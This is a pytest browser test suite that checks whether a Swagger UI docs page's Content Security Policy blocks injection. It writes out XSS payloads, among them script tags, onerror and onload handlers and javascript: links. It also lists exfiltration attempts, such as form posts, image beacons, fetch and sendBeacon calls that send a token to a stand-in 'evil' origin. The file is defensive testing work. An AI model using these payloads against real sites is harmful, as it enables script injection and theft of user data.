"""The docs pages in a real browser, under a stage's prefix: they work, ask nobody else, and run nothing foreign."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from aws_lambda_powertools import Logger
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, JSONResponse, PlainTextResponse
from starlette.routing import Route
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from shared.application import make_application
from tests.apps.every.every_app import APPS, made, served, under
from tests.browser import Page, opened

PREFIX = "/dev"
SHOWN = 'document.querySelectorAll(".opblock").length'
# Markdown that Swagger UI shows as a description, and that a page would run if it could.
HOSTILE = """What it does. <script>window.hit = "description"</script> <img src=x onerror="window.hit = 'image'">
<a href="javascript:window.hit='link'" id="evil">a link</a> <svg onload="window.hit='svg'"></svg>"""
HIT = "window.hit || null"


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    with opened(tmp_path_factory.mktemp("browser") / "profile") as tab:
        yield tab


@pytest.fixture
def evil() -> Iterator[str]:
    """Another origin, whose scripts and responses anybody may use."""
    allowed = {"Access-Control-Allow-Origin": "*"}

    async def script(_request: Any) -> PlainTextResponse:
        return PlainTextResponse('window.hit = "foreign"', media_type="text/javascript", headers=allowed)

    async def data(_request: Any) -> JSONResponse:
        return JSONResponse({"stolen": True}, headers=allowed)

    async def frame(request: Any) -> HTMLResponse:
        return HTMLResponse(f'<iframe id="framed" src="{request.query_params["of"]}"></iframe>')

    routes = [Route("/script.js", script), Route("/data", data, methods=["GET", "POST"]), Route("/frame", frame)]
    with served(Starlette(routes=routes)) as url:
        yield url


def operations(url: str) -> int:
    document = httpx.get(f"{url}{PREFIX}/openapi.json", trust_env=False).json()
    return sum(len(item) for item in document["paths"].values())


@pytest.mark.parametrize("name", APPS)
def test_the_page_of_every_app_shows_its_operations_and_calls_them(
    name: str, page: Page, dynamodb: Any, logger_of: Callable[[str], Logger], tmp_path: Path
) -> None:
    with made(name, dynamodb, logger_of, tmp_path) as one, served(under(PREFIX, one.app)) as url:
        page.open(f"{url}{PREFIX}/docs")
        page.until(f"{SHOWN} === {operations(url)}")
        health = 'document.querySelector("[id$=health]")'
        page.value(f'{health}.querySelector(".opblock-summary-control").click()')
        page.until(f'{health}.querySelector(".try-out__btn")')
        page.value(f'{health}.querySelector(".try-out__btn").click()')
        page.until(f'{health}.querySelector(".execute")')
        page.value(f'{health}.querySelector(".execute").click()')
        status = page.until(f'{health}.querySelector(".live-responses-table tbody .response-col_status")?.innerText')
        page.value("document.fonts.ready.then(() => null)")

    assert status.split()[0] == "200"
    assert page.complaints == []
    hosts = {urlsplit(address).netloc for address in page.asked if not address.startswith("data:")}
    assert hosts == {urlsplit(url).netloc}
    assert len(page.asked) >= 5


# As somebody who could write into the page would try it; `add` makes an element and `write` writes one.
ATTEMPTS = {
    "inline script": "add('script', {textContent: 'window.hit = 1'})",
    "foreign script": "add('script', {src: evil + '/script.js'})",
    "script as data": "add('script', {src: 'data:text/javascript,window.hit=1'})",
    "data as script": "add('script', {src: 'openapi.json'})",
    "module": "add('script', {type: 'module', textContent: 'window.hit = 1'})",
    "foreign module": "add('script', {type: 'module', src: evil + '/script.js'})",
    "handler": "write('<img src=x onerror=\"window.hit = 1\">')",
    "handler of an element": "const e = add('div', {}); e.setAttribute('onclick', 'window.hit = 1'); e.click()",
    "frame": "write('<iframe srcdoc=\"<script>parent.hit = 1</script>\"></iframe>')",
    "foreign frame": "add('iframe', {src: evil + '/frame?of=about:blank'})",
    "base": "write('<base href=\"' + evil + '/\">'); add('script', {src: 'script.js'})",
    "address": "location.href = 'javascript:window.hit=1'",
    "form": "add('form', {method: 'post', action: evil + '/data'}).submit()",
    "image": "new Image().src = evil + '/data?token=secret'",
    "fetch": "fetch(evil + '/data').then(() => { window.hit = 1 }).catch(() => {})",
    "beacon": "navigator.sendBeacon(evil + '/data', 'token')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.hit = 1 }",
    "socket": "new WebSocket(evil.replace('http', 'ws')).onopen = () => { window.hit = 1 }",
    "style": "write('<link rel=stylesheet href=\"' + evil + '/data\">')",
}
TOOLS = """
window.refused = [];
document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
window.add = (kind, values) => document.body.appendChild(Object.assign(document.createElement(kind), values));
window.write = text => document.body.insertAdjacentHTML("beforeend", text);
"""


@pytest.mark.parametrize("kind", ATTEMPTS)
def test_what_is_injected_into_the_page_does_nothing(
    kind: str, page: Page, evil: str, logger_of: Callable[[str], Logger]
) -> None:
    app = make_application(title="t", version="1", description="", routers=[], logger=logger_of("sample"))
    with served(under(PREFIX, app)) as url:
        page.open(f"{url}{PREFIX}/docs")
        page.until("window.SwaggerUIBundle && document.querySelector('.information-container')")
        page.value(f"{TOOLS} window.evil = {evil!r}; null")
        page.value(f"try {{ {ATTEMPTS[kind]} }} catch {{ }} null")
        # A script that is none is refused by its type, and no event says so; another document has its own events.
        if kind not in ("data as script", "frame"):
            page.until("window.refused.length > 0")
        page.value("new Promise(done => setTimeout(done, 300))")

        assert page.value(HIT) is None
        assert page.value("location.pathname") == f"{PREFIX}/docs"


def test_a_script_that_is_written_into_the_page_on_its_way_is_not_run(
    page: Page, evil: str, logger_of: Callable[[str], Logger]
) -> None:
    injected = f'<script>window.hit = 1</script><script src="{evil}/script.js"></script><body onload="window.hit=2">'
    app = make_application(title="t", version="1", description="", routers=[], logger=logger_of("sample"))

    with served(under(PREFIX, with_text(injected, app))) as url:
        page.open(f"{url}{PREFIX}/docs")
        page.until("window.SwaggerUIBundle && document.querySelector('.information-container')")

        assert page.value("document.documentElement.innerHTML.includes('window.hit = 1')")
        assert page.value(HIT) is None
    assert [said for said in page.complaints if "Content Security Policy" in said]


def with_text(text: str, app: ASGIApp) -> ASGIApp:
    """Write a text into the head of every page."""

    async def changed(scope: Scope, receive: Receive, send: Send) -> None:
        async def change(message: Message) -> None:
            if message["type"] == "http.response.start":
                kept = [pair for pair in message["headers"] if pair[0].lower() != b"content-length"]
                message = {**message, "headers": kept}
            elif b"</title>" in message.get("body", b""):
                message = {**message, "body": message["body"].replace(b"</title>", b"</title>" + text.encode())}
            await send(message)

        await app(scope, receive, change)

    return changed


def test_a_description_runs_nothing(page: Page, logger_of: Callable[[str], Logger]) -> None:
    app = make_application(title=HOSTILE, version="1", description=HOSTILE, routers=[], logger=logger_of("sample"))

    with served(under(PREFIX, app)) as url:
        page.open(f"{url}{PREFIX}/docs")
        page.until("document.querySelector('.information-container .description')?.innerText.includes('What it does.')")
        page.value("document.querySelectorAll('.description a').forEach(link => link.click())")
        page.value("new Promise(done => setTimeout(done, 300))")

        assert page.value(HIT) is None
        assert page.value("location.pathname") == f"{PREFIX}/docs"


def test_an_address_cannot_name_another_document(page: Page, evil: str, logger_of: Callable[[str], Logger]) -> None:
    app = make_application(title="ours", version="1", description="", routers=[], logger=logger_of("sample"))

    with served(under(PREFIX, app)) as url:
        page.open(f"{url}{PREFIX}/docs?url={evil}/data&configUrl={evil}/data#/?url={evil}/data")
        page.until("document.querySelector('.information-container .title')?.innerText.startsWith('ours')")

        assert not [address for address in page.asked if address.startswith(evil)]


@pytest.mark.parametrize("path", ["docs", "openapi.json", "nothing"])
def test_no_other_page_frames_it(path: str, page: Page, evil: str, logger_of: Callable[[str], Logger]) -> None:
    app = make_application(title="t", version="1", description="", routers=[], logger=logger_of("sample"))

    with served(under(PREFIX, app)) as url:
        page.open(f"{evil}/frame?of={url}{PREFIX}/{path}")
        page.value("new Promise(done => setTimeout(done, 500))")

    assert [said for said in page.complaints if "frame-ancestors" in said], json.dumps(page.complaints)
